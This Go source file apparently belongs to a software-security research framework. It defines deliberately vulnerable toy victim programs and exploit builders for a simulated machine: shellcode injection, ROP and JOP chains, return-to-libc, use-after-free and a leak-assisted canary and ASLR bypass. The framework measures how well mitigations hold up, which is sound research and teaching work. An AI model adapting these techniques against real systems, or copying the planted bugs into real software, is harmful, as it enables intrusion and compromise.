package core

import (
	"bytes"
	"encoding/binary"
	"fmt"

	"softsec/internal/asm"
	"softsec/internal/attack"
	"softsec/internal/cpu"
	"softsec/internal/isa"
	"softsec/internal/kernel"
	"softsec/internal/layout"
)

var le = binary.LittleEndian

// Recon is what a realistic I/O attacker knows before sending a byte: the
// victim binary (they can buy/download the same software) and the
// platform's *nominal* layout. ASLR's whole value is that the actual
// layout differs from this reconnaissance.
type Recon struct {
	// Profile is the machine layout profile the victim platform runs —
	// public knowledge, like the target's CPU architecture. Attack
	// builders derive their frame offsets from it instead of hardcoding
	// Figure-1 distances.
	Profile *layout.Profile
	// MainEBP is main's frame pointer in the nominal layout: _start
	// pushes a return address (StackTop-4), main's prologue pushes EBP
	// (StackTop-8 = EBP). Local offsets from Profile.Frame are relative
	// to it.
	MainEBP uint32

	// Addresses in the nominal (non-ASLR) layout.
	BufAddr     uint32 // main's first local buffer (canonical 16-byte frame)
	SpawnShell  uint32
	Syscall3    uint32
	Exit        uint32
	Pop4Gadget  uint32 // pop×4; ret (argument skipper)
	Puts        uint32 // libc puts — the code-corruption target
	Addv        uint32 // libc addv — a harmless entry a JOP chain flows through
	DataScratch uint32 // writable scratch cell in .data
	StartRet    uint32 // return address main's frame holds (into _start)
	Canary      uint32 // the predictable default canary
	TextBase    uint32
}

// LocalAddr returns the nominal address of local i in a main() whose
// locals have the given sizes, using the profile's frame arithmetic —
// how an attacker computes buffer addresses once frame geometry is a
// platform parameter rather than a constant.
func (r Recon) LocalAddr(f layout.Frame, i int) uint32 {
	return r.MainEBP + uint32(f.Offs[i])
}

// ReconNominal builds attacker knowledge by loading the attacker's own
// copy of the victim at the nominal layout and reading symbols — exactly
// what an attacker with the binary does offline. Because the nominal
// probe is seed-independent, the result is content-cached (see
// cache.go): repeated trials of one cell perform the reconnaissance
// pass — probe load, symbol reads, gadget mining — exactly once.
func ReconNominal(s Scenario, m Mitigations) (Recon, error) {
	return reconNominal(s, m, true)
}

// reconProbe is the uncached reconnaissance pass: it assumes the caller
// already cleared probe.ASLR (recon happens on the attacker's machine).
func reconProbe(s Scenario, probe Mitigations, counted bool) (Recon, error) {
	m := probe
	p, err := buildVictimVia(s, probe, counted)
	if err != nil {
		return Recon{}, err
	}
	var r Recon
	get := func(name string) uint32 {
		a, ok := p.SymbolAddr(name)
		if !ok {
			err = fmt.Errorf("core: recon: symbol %q missing", name)
		}
		return a
	}
	r.SpawnShell = get("spawn_shell")
	r.Puts = get("puts")
	r.Addv = get("addv")
	r.Syscall3 = get("syscall3")
	r.Exit = get("exit")
	if err != nil {
		return Recon{}, err
	}
	r.TextBase = p.Layout.Text
	r.DataScratch = p.Layout.Data + 0x800
	r.Canary = p.Canary
	// main's frame: _start pushes a return address (ESP-4), main's
	// prologue pushes EBP (ESP-8 = EBP); where the locals sit below that
	// is profile geometry, so derive it instead of hardcoding Figure 1's
	// EBP-16 / EBP-20.
	prof, err := m.LayoutProfile()
	if err != nil {
		return Recon{}, fmt.Errorf("core: recon: %w", err)
	}
	r.Profile = prof
	r.MainEBP = p.Layout.StackTop - 8
	r.BufAddr = r.LocalAddr(prof.Frame(m.Canary, 16), 0)
	// The return address main's frame holds is the instruction after
	// _start's `call main`. Derive it by disassembling at _start rather
	// than hardcoding the CALL encoding's size, so recon survives any
	// future _start prologue change.
	startAddr, ok := p.SymbolAddr("_start")
	if !ok {
		return Recon{}, fmt.Errorf("core: recon: symbol %q missing", "_start")
	}
	startCode, ok := p.Mem.PeekRaw(startAddr, funcSpan(p, startAddr))
	if !ok {
		return Recon{}, fmt.Errorf("core: recon: cannot read _start code at 0x%08x", startAddr)
	}
	for _, l := range isa.Disassemble(startCode, startAddr) {
		if !l.Bad && l.Instr.Op == isa.CALL {
			r.StartRet = l.Addr + uint32(l.Instr.Size)
			break
		}
	}
	if r.StartRet == 0 {
		return Recon{}, fmt.Errorf("core: recon: no CALL found in _start's first %d bytes", len(startCode))
	}
	// Mine the pop4 gadget from libc text.
	text, ok := p.Mem.PeekRaw(p.Layout.Text, len(p.Linked.Text))
	if !ok {
		return Recon{}, fmt.Errorf("core: recon: cannot read text [0x%08x, +%d)", p.Layout.Text, len(p.Linked.Text))
	}
	gs := attack.FindGadgets(text, p.Layout.Text, 6)
	if g, ok := attack.FindPopChain(gs, 4); ok {
		r.Pop4Gadget = g.Addr
	} else {
		return Recon{}, fmt.Errorf("core: recon: no pop4 gadget in victim")
	}
	return r, nil
}

// funcSpan returns the length of the function starting at addr: up to
// the next exported text symbol, or the end of the loaded text. Local
// text symbols are labels inside a function and do not delimit it.
func funcSpan(p *kernel.Process, addr uint32) int {
	end := p.Layout.Text + uint32(len(p.Linked.Text))
	for _, s := range p.Linked.Symbols {
		if s.Section != asm.SecText || !s.Global {
			continue
		}
		if a := p.Layout.Text + s.Off; a > addr && a < end {
			end = a
		}
	}
	if addr >= end {
		return 0
	}
	return int(end - addr)
}

// An AttackSpec is one row of the Table-1 matrix: a named attack technique
// with its vulnerable victim program, its payload builder, and its success
// oracle.
type AttackSpec struct {
	Name string
	// Technique is the paper's Section III-B category.
	Technique string
	// Victim is the vulnerable MinC program this technique targets.
	Victim string
	// Build constructs the attacker input given reconnaissance.
	Build func(r Recon, m Mitigations) kernel.InputSource
	// Goal is the success oracle.
	Goal Oracle
}

// Scenario instantiates the runnable scenario for a mitigation config.
func (a AttackSpec) Scenario(m Mitigations) (Scenario, error) {
	return a.scenarioVia(m, true)
}

// scenarioVia is Scenario with an explicit cache access mode (see
// cache.go): warm-instance construction passes counted=false so its
// recon lookups never move the deterministic cache counters.
func (a AttackSpec) scenarioVia(m Mitigations, counted bool) (Scenario, error) {
	s := Scenario{Name: a.Name, Source: a.Victim, Goal: a.Goal}
	r, err := reconNominal(s, m, counted)
	if err != nil {
		return Scenario{}, err
	}
	s.Attacker = a.Build(r, m)
	return s, nil
}

// victimEcho is the paper's Figure 1 server with the bug of Section III-A
// dialed up: it reads up to 128 bytes into a 16-byte stack buffer.
const victimEcho = `
void get_request(int fd, char buf[]) {
	read(fd, buf, 128); // spatial vulnerability: buf holds only 16
}
void process(int fd) {
	char buf[16];
	get_request(fd, buf);
}
void main() {
	char buf[16];
	read(0, buf, 128);  // same bug at frame depth 1 for payload simplicity
}`

// victimArbWrite has the paper's buf[i] = v vulnerability: index and value
// both come from the attacker, so the whole address space is writable.
const victimArbWrite = `
void main() {
	int v[4];
	int idx = 0;
	int val = 0;
	while (read(0, &idx, 4) == 4) {
		if (read(0, &val, 4) != 4) return;
		v[idx] = val; // unchecked attacker-controlled index
	}
	puts("bye");
}`

// victimDataOnly guards an action with a flag sitting right above a
// carelessly-sized buffer — the paper's isAdmin example.
const victimDataOnly = `
void main() {
	int is_admin = 0;
	char name[16];
	read(0, name, 20); // off-by-four: exactly reaches is_admin
	if (is_admin) {
		write(1, "ADMIN", 5);
	} else {
		write(1, "user", 4);
	}
}`

// victimLeak echoes back an attacker-chosen number of bytes from a 16-byte
// buffer — the shape of Heartbleed (confidentiality attack).
const victimLeak = `
void main() {
	char buf[16];
	int n = 0;
	read(0, &n, 4);
	read(0, buf, 16);
	write(1, buf, n); // over-read: leaks canary, saved EBP, return address
}`

// victimLeakThenSmash first over-reads (leaking canary and addresses),
// then over-writes: the adaptive attacker uses the leak to defeat canary
// and ASLR together, as in "Breaking the memory secrecy assumption".
const victimLeakThenSmash = `
void main() {
	char buf[16];
	int n = 0;
	read(0, &n, 4);
	read(0, buf, 16);
	write(1, buf, n);
	read(0, buf, 128); // and now the overflow
}`

// victimFnPtr keeps a function pointer right above a fixed-size buffer in
// static data — the paper's "memory cells that contain function pointers"
// bullet. The overflow rewrites where the later indirect call goes.
const victimFnPtr = `
char name[16];
int *handler;

int greet() {
	write(1, "hi ", 3);
	write(1, name, strlen(name));
	return 0;
}
void main() {
	handler = greet;
	read(0, name, 24); // overflows into handler
	int *f = handler;
	f(); // control-flow hijack point
}`

// victimFnTable dispatches through a table of function pointers sitting
// right above an overflowable static buffer — the substrate of a
// JOP/function-reuse chain. Unlike victimFnPtr's single pointer, the
// overflow rewrites a *sequence* of indirect-call targets, so the hijack
// can chain through legitimate function entries: the defining move of the
// attacks that bypass coarse-grained CFI (every hop lands on a real
// entry, so a "calls may only target function entries" check never
// fires), while fine-grained CFI refuses the first hop because the reused
// entries are not in the program's address-taken dictionary.
const victimFnTable = `
char name[32];
int *actions[2];

int hello() {
	write(1, "hello ", 6);
	return 0;
}
int bye() {
	write(1, "bye", 3);
	return 0;
}
void main() {
	actions[0] = hello;
	actions[1] = bye;
	read(0, name, 44); // overflows through both table slots
	int *f = actions[0];
	f(); // hop 1
	f = actions[1];
	f(); // hop 2
}`

// victimHeapUAF frees a privilege-bearing object too early; the attacker's
// input allocation reuses the chunk (LIFO free list), and the program
// keeps trusting the stale pointer — heap-flavoured type confusion, the
// temporal vulnerability in its modern dress.
const victimHeapUAF = `
void main() {
	int *session = malloc(16);
	session[0] = 0;        // session->is_admin = 0
	free(session);         // premature free: the bug
	char *name = malloc(16);
	read(0, name, 16);     // attacker bytes land in the old chunk
	if (session[0]) {
		write(1, "ADMIN", 5);
	} else {
		write(1, "user", 4);
	}
}`

// victimTemporal returns a dangling pointer to a dead stack frame and then
// reads into it — the paper's temporal vulnerability. The dead frame is
// re-occupied by libc read()'s own activation record, so the write
// corrupts a *live* return address without ever touching a canary.
const victimTemporal = `
char *make() {
	char buf[16];
	return buf; // dangling: buf dies with this frame
}
void main() {
	char *p = make();
	read(0, p, 64); // temporal vulnerability
}`

// outputHas returns an oracle matching a marker in the victim's output.
func outputHas(marker string) Oracle {
	return func(p *kernel.Process, st cpu.State) bool {
		return bytes.Contains(p.Output.Bytes(), []byte(marker))
	}
}

// exitedWith returns an oracle matching a specific exit code.
func exitedWith(code int32) Oracle {
	return func(p *kernel.Process, st cpu.State) bool {
		return st == cpu.Exited && p.CPU.ExitCode() == code
	}
}

func orOracle(a, b Oracle) Oracle {
	return func(p *kernel.Process, st cpu.State) bool {
		return a(p, st) || b(p, st)
	}
}

// pwned is the oracle for arbitrary code execution.
var pwned = orOracle(outputHas(attack.PwnMarker), exitedWith(attack.PwnExitCode))

// shelled is the oracle for reaching libc's system() stand-in.
var shelled = orOracle(outputHas("SHELL!"), exitedWith(attack.ShellExitCode))

// words packs uint32s little-endian.
func words(ws ...uint32) []byte {
	b := make([]byte, 4*len(ws))
	for i, w := range ws {
		le.PutUint32(b[4*i:], w)
	}
	return b
}

// Attacks is the catalog of Section III-B techniques, one per row of the
// T1 matrix.
func Attacks() []AttackSpec {
	return []AttackSpec{
		{
			Name:      "stack-smash-inject",
			Technique: "direct code injection",
			Victim:    victimEcho,
			Goal:      pwned,
			Build: func(r Recon, m Mitigations) kernel.InputSource {
				// Plant shellcode just above the smashed return
				// address and point the return address at it. The
				// distance from buf to the return slot is profile
				// geometry, not a constant.
				f := r.Profile.Frame(m.Canary, 16)
				retOff := f.RetOffFrom(0)
				scAddr := r.BufAddr + uint32(retOff) + 4
				s := &attack.SmashSpec{
					RetOff:    retOff,
					Ret:       scAddr,
					EBP:       r.BufAddr,
					CanaryOff: -1,
					Suffix:    attack.MarkerShellcode(scAddr),
				}
				return &kernel.ScriptInput{s.Build()}
			},
		},
		{
			Name:      "code-corruption",
			Technique: "code corruption",
			Victim:    victimArbWrite,
			Goal:      pwned,
			Build: func(r Recon, m Mitigations) kernel.InputSource {
				// Overwrite libc's puts with shellcode using the
				// arbitrary-write primitive; the victim calls puts
				// after its read loop, running the corrupted code.
				// (Targeting code that the loop itself still needs —
				// read() — would crash the victim mid-attack.) The
				// word-granular primitive needs a 4-aligned base, so
				// never-executed lead-in bytes pad the blob.
				target := r.Puts
				base := target &^ 3
				blob := append(bytes.Repeat([]byte{0x90}, int(target-base)),
					attack.MarkerShellcode(target)...)
				for len(blob)%4 != 0 {
					blob = append(blob, 0x90)
				}
				// v[] is the first declared local of a {v[16], idx,
				// val} frame; where the profile places it decides the
				// index base. idx counts in 4-byte elements.
				vAddr := r.LocalAddr(r.Profile.Frame(m.Canary, 16, 4, 4), 0)
				var chunks [][]byte
				for i := 0; i+4 <= len(blob); i += 4 {
					idx := (base + uint32(i) - vAddr) / 4
					chunks = append(chunks, words(idx), words(le.Uint32(blob[i:])))
				}
				si := kernel.ScriptInput(chunks)
				return &si
			},
		},
		{
			Name:      "return-to-libc",
			Technique: "code reuse (return-to-libc)",
			Victim:    victimEcho,
			Goal:      shelled,
			Build: func(r Recon, m Mitigations) kernel.InputSource {
				s := &attack.SmashSpec{
					RetOff:    r.Profile.Frame(m.Canary, 16).RetOffFrom(0),
					Ret:       r.SpawnShell,
					EBP:       r.BufAddr,
					CanaryOff: -1,
				}
				return &kernel.ScriptInput{s.Build()}
			},
		},
		{
			Name:      "rop-chain",
			Technique: "code reuse (ROP)",
			Victim:    victimEcho,
			Goal:      pwned,
			Build: func(r Recon, m Mitigations) kernel.InputSource {
				// Chain: read(0, scratch, 6) brings the marker into
				// memory; write(1, scratch, 6) prints it; exit(66).
				var c attack.ROPChain
				c.CallCdecl(r.Syscall3, r.Pop4Gadget, kernel.SysRead, 0, r.DataScratch, 6)
				c.CallCdecl(r.Syscall3, r.Pop4Gadget, kernel.SysWrite, 1, r.DataScratch, 6)
				c.FinalCall(r.Exit, attack.PwnExitCode)
				retOff := r.Profile.Frame(m.Canary, 16).RetOffFrom(0)
				s := &attack.SmashSpec{
					RetOff:    retOff,
					Ret:       c.First(),
					EBP:       r.BufAddr,
					CanaryOff: -1,
					Suffix:    c.Rest(),
				}
				si := kernel.ScriptInput{s.Build(), []byte(attack.PwnMarker)}
				return &si
			},
		},
		{
			Name:      "data-only",
			Technique: "data-only attack",
			Victim:    victimDataOnly,
			Goal:      outputHas("ADMIN"),
			Build: func(r Recon, m Mitigations) kernel.InputSource {
				// Filler up to is_admin, then a non-zero word; no code
				// pointer is touched. The filler length is the
				// profile-dependent distance from name[] up to
				// is_admin. Profiles that place is_admin *below* the
				// buffer (or out of the 20-byte write's reach) make
				// this attack geometrically impossible; send the
				// classic payload and let the oracle record the miss.
				f := r.Profile.Frame(m.Canary, 4, 16)
				delta := int(f.Offs[0] - f.Offs[1]) // name → is_admin
				if delta <= 0 || delta > 16 {
					delta = 16
				}
				payload := append(bytes.Repeat([]byte{'x'}, delta), words(1)...)
				return &kernel.ScriptInput{payload}
			},
		},
		{
			Name:      "info-leak",
			Technique: "information leak (over-read)",
			Victim:    victimLeak,
			// Confidentiality oracle: more bytes than the buffer holds
			// leave the process.
			Goal: func(p *kernel.Process, st cpu.State) bool {
				return p.Output.Len() > 16
			},
			Build: func(r Recon, m Mitigations) kernel.InputSource {
				return &kernel.ScriptInput{words(64), []byte("AAAAAAAAAAAAAAAA")}
			},
		},
		{
			Name:      "leak-assisted-ret2libc",
			Technique: "info leak + code reuse (defeats canary and ASLR)",
			Victim:    victimLeakThenSmash,
			Goal:      shelled,
			Build:     buildLeakAssisted,
		},
		{
			Name:      "fnptr-hijack",
			Technique: "overwriting code pointers (function pointer)",
			Victim:    victimFnPtr,
			Goal:      shelled,
			Build: func(r Recon, m Mitigations) kernel.InputSource {
				// 16 bytes of name, then the handler slot = spawn_shell.
				payload := append(bytes.Repeat([]byte{'x'}, 16), words(r.SpawnShell)...)
				return &kernel.ScriptInput{payload}
			},
		},
		{
			Name:      "jop-entry-reuse",
			Technique: "code reuse (JOP/function-reuse chain, coarse-CFI bypass)",
			Victim:    victimFnTable,
			Goal:      shelled,
			Build: func(r Recon, m Mitigations) kernel.InputSource {
				// Rewrite both dispatch-table slots with *legitimate
				// function entries*: hop 1 flows through libc's addv
				// (harmless, returns), hop 2 lands on spawn_shell.
				// Every hijacked edge targets a real entry, which is
				// exactly what coarse-grained CFI cannot distinguish
				// from honest indirection — and what fine-grained CFI
				// refuses, because neither entry is address-taken.
				payload := append(bytes.Repeat([]byte{'x'}, 32),
					words(r.Addv, r.SpawnShell)...)
				return &kernel.ScriptInput{payload}
			},
		},
		{
			Name:      "heap-uaf",
			Technique: "temporal (heap use-after-free, type confusion)",
			Victim:    victimHeapUAF,
			Goal:      outputHas("ADMIN"),
			Build: func(r Recon, m Mitigations) kernel.InputSource {
				// Any non-zero leading word flips the stale is_admin.
				return &kernel.ScriptInput{words(1, 0, 0, 0)}
			},
		},
		{
			Name:      "temporal-uaf",
			Technique: "temporal (dangling stack pointer)",
			Victim:    victimTemporal,
			Goal:      shelled,
			Build: func(r Recon, m Mitigations) kernel.InputSource {
				// The dangling buffer coincides with read()'s own
				// frame: filler, saved EBP, then read's return address
				// — redirected to spawn_shell. No canary protects
				// libc's hand-written frames, but the profile decides
				// where make() put the dead buffer relative to its
				// EBP, and read()'s frame reoccupies the same slots:
				// the distance from the buffer to the live return
				// address is 4 - Offs[buf], i.e. RetOffFrom.
				retOff := r.Profile.Frame(m.Canary, 16).RetOffFrom(0)
				s := &attack.SmashSpec{
					RetOff:    retOff,
					Ret:       r.SpawnShell,
					EBP:       r.BufAddr,
					CanaryOff: -1,
				}
				return &kernel.ScriptInput{s.Build()}
			},
		},
	}
}

// buildLeakAssisted is the adaptive attacker of "Breaking the memory
// secrecy assumption": request a 64-byte over-read, recover the live
// canary and the return address into _start, rebase libc from the leak,
// then smash with the correct canary and the *actual* spawn_shell address.
func buildLeakAssisted(r Recon, m Mitigations) kernel.InputSource {
	// The victim's frame is {buf[16], n}; the over-read streams bytes
	// starting at buf, so every leak offset is "slot offset − buf offset"
	// in the profile's frame. The same arithmetic gives the smash offsets.
	f := r.Profile.Frame(m.Canary, 16, 4)
	retOff := f.RetOffFrom(0)                // buf → return address
	canaryOff, crossed := f.CanaryOffFrom(0) // buf → canary, if above buf
	bufAddr := r.LocalAddr(f, 0)
	step := 0
	return kernel.InputFunc(func(max int, out []byte) []byte {
		step++
		switch step {
		case 1:
			return words(64) // leak length
		case 2:
			return []byte("AAAAAAAAAAAAAAAA") // fill the buffer
		case 3:
			if len(out) < retOff+4 {
				return nil
			}
			leakedRet := le.Uint32(out[retOff:])
			// Rebase: the leaked return address is _start+5 in the
			// *actual* layout; spawn_shell follows at a fixed delta.
			spawn := leakedRet + (r.SpawnShell - r.StartRet)
			s := &attack.SmashSpec{
				RetOff:    retOff,
				Ret:       spawn,
				EBP:       bufAddr,
				CanaryOff: -1,
			}
			// A canary only matters (and is only leakable) when it
			// sits between the buffer and the return address.
			if m.Canary && crossed && len(out) >= canaryOff+4 {
				s.WithCanary(canaryOff, le.Uint32(out[canaryOff:]))
			}
			return s.Build()
		}
		return nil
	})
}
